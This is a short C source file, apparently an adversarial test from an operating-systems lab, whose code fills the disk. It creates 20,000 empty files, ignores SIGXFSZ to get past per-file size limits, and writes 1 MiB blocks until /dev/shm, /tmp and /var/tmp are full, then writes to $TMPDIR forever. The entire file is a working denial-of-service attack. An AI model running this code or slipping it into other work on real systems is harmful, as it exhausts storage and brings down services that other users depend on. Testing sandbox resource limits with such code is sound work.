/*
 * Fills the disk: thousands of empty files, then file after file of 1 MiB
 * blocks in every writable place (/dev/shm, /tmp, /var/tmp, then $TMPDIR
 * for ever), with SIGXFSZ ignored so that the per-file size limit only
 * moves it on to the next file.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

/* Writes files in dir until one gets no byte (the place is full), or for ever. */
static void adv_fill(const char *dir, int forever)
{
    static char block[1 << 20];
    char path[4096];

    for (int n = 0;; n++) {
        long written = 0;
        snprintf(path, sizeof(path), "%s/oslabs-adv-fill-%d", dir, n);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
        while (fd >= 0 && write(fd, block, sizeof(block)) > 0)
            written++;
        close(fd);
        if (written == 0 && !forever)
            return;
    }
}

static int adv_attack(void)
{
    const char *dir = getenv("TMPDIR");
    char path[4096];

    signal(SIGXFSZ, SIG_IGN);
    for (int i = 0; i < 20000; i++) {
        snprintf(path, sizeof(path), "%s/many-%d", dir ? dir : ".", i);
        close(open(path, O_WRONLY | O_CREAT, 0600));
    }
    adv_fill("/dev/shm", 0);
    adv_fill("/tmp", 0);
    adv_fill("/var/tmp", 0);
    adv_fill(dir ? dir : ".", 1);
    return 0;
}
